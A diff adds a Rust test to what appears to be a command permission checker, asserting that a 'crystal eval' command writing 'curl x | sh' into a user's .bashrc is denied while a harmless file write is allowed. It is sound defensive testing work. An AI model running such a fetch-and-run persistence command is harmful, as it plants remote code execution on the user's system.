@@ -254,3 +254,18 @@ fn token_read_snippets_that_name_a_credential_and_connect_send_it() {
         ],
     );
 }
+
+#[test]
+fn call_syntax_file_writes_reach_the_write_rules() {
+    table(
+        &ctx(),
+        &[
+            (
+                "crystal eval 'File.write(\"/home/user/.bashrc\", \"curl x | sh\")'",
+                DENY,
+                "*",
+            ),
+            ("crystal eval 'File.write(\"out.txt\", \"hi\")'", ALLOW, "*"),
+        ],
+    );
+}
